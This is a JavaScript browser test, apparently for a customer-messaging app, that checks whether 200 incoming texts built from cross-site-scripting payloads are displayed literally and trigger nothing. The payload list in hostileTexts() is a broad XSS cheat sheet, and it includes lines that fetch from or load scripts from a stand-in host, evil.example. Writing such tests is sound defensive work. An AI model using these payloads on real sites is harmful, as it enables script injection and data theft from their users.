// What customers may write, and what must not come of it.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { Demo, openBrowser, openPage, row, signIn } from './support.mjs';

let demo;
let browser;

before(async () => {
  [demo, browser] = await Promise.all([Demo.start(), openBrowser()]);
});

after(async () => {
  await browser?.close();
  await demo?.end();
});

/** Ways in which a text has become a script somewhere, each with something to tell it by. */
function hostileTexts() {
  const payloads = ['alert(1)', 'confirm`1`', 'document.title=`owned`', 'fetch(`//evil.example`)'];
  const shapes = [
    (js) => `<script>${js}</script>`,
    (js) => `<img src=x onerror=${js}>`,
    (js) => `<svg/onload=${js}>`,
    (js) => `"><script>${js}</script>`,
    (js) => `'><img src=x onerror='${js}'>`,
    (js) => `<a href="javascript:${js}">click</a>`,
    (js) => `javascript:${js}`,
    (js) => `<iframe srcdoc="<script>${js}</script>">`,
    (js) => `<body onload=${js}>`,
    (js) => `<details open ontoggle=${js}>`,
    (js) => `<input autofocus onfocus=${js}>`,
    (js) => `<video><source onerror=${js}></video>`,
    (js) => `<math><mi xlink:href="javascript:${js}">`,
    (js) => `<style>@import 'javascript:${js}'</style>`,
    (js) => `<meta http-equiv=refresh content="0;javascript:${js}">`,
    (js) => `<object data="javascript:${js}">`,
    (js) => `{{constructor.constructor('${js}')()}}`,
    (js) => `\${${js}}`,
    (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
    (js) => `<!--><img src=x onerror=${js}>-->`,
    (js) => `<template><script>${js}</script></template>`,
    (js) => `<marquee onstart=${js}>`,
    (js) => `<form action="javascript:${js}"><button>go</button></form>`,
    (js) => `<base href="javascript:${js}//">`,
    (js) => `%3Cscript%3E${js}%3C/script%3E`,
    (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
    (js) => `\u202E<script>${js}</script>\u202C`,
    (js) => `\u0000<script>${js}</script>`,
    (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
    (js) => `<img src="data:image/svg+xml,<svg onload=${js}>">`,
    (js) => `__proto__[innerHTML]=<img/src/onerror%3d${js}>`,
    (js) => `data:text/html,<script>${js}</script>`,
    (js) => `<link rel=stylesheet href="javascript:${js}">`,
    (js) => `<embed src="javascript:${js}">`,
    (js) => `<textarea autofocus onfocus=${js}>`,
    (js) => `<select onchange=${js}><option>1`,
    (js) => `<table background="javascript:${js}">`,
    (js) => `<div style="background:url(javascript:${js})">`,
    (js) => `<button popovertarget=x onclick=${js}>x</button>`,
    (js) => `<dialog open onclose=${js}>x</dialog>`,
    (js) => `[link](javascript:${js})`,
    (js) => `<x contenteditable onblur=${js}>x`,
    (js) => `<bgsound src="javascript:${js}">`,
    (js) => `<keygen autofocus onfocus=${js}>`,
    (js) => `<isindex type=image src=1 onerror=${js}>`,
    (js) => `<image/src/onerror=${js}>`,
    (js) => `<audio src onloadstart=${js}>`,
    (js) => `<svg><animate onbegin=${js} attributeName=x>`,
    (js) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${js}>#x">`,
    (js) => `<script src="//evil.example/${js}"></script>`,
  ];
  return shapes.flatMap((shape) => payloads.map(shape));
}

test('two hundred hostile texts are shown as they are and do nothing', async () => {
  const texts = hostileTexts();
  assert.equal(texts.length, 200);
  const page = await openPage(browser, demo);
  const strangers = [];
  page.on('request', (request) => {
    const { origin, protocol } = new URL(request.url());
    if (protocol.startsWith('http') && origin !== demo.url) strangers.push(request.url());
  });
  await signIn(page, demo);
  await page.getByRole('link', { name: /Unassigned/ }).click();
  for (const text of texts) await demo.textIn('14155550666', text);
  await demo.textIn('14155550666', 'the last one');
  await row(page, 'the last one').click();
  const log = page.getByRole('log');
  await log.getByText('the last one').waitFor();
  const seen = new Set();
  for (let scrolls = 0; scrolls < 40 && seen.size <= texts.length; scrolls += 1) {
    for (const text of await log.locator('p[dir=auto]').allTextContents()) seen.add(text);
    await log.evaluate((element) => element.scrollTo(0, 0));
    await page.waitForTimeout(150);
  }
  // U+0000 cannot be stored by PostgreSQL and is replaced where the text comes in.
  const missing = texts.filter((text) => !text.includes('\u0000') && !seen.has(text));
  assert.deepEqual(missing, []);
  const made = 'script:not([src]),img[src=x],svg[onload],iframe,object,embed,base,meta[http-equiv]';
  assert.equal(await page.locator(made).count(), 0, 'no element came of a text');
  assert.doesNotMatch(await page.title(), /owned/);
  assert.deepEqual(strangers, []);
  assert.deepEqual(page.complaints, []);
});
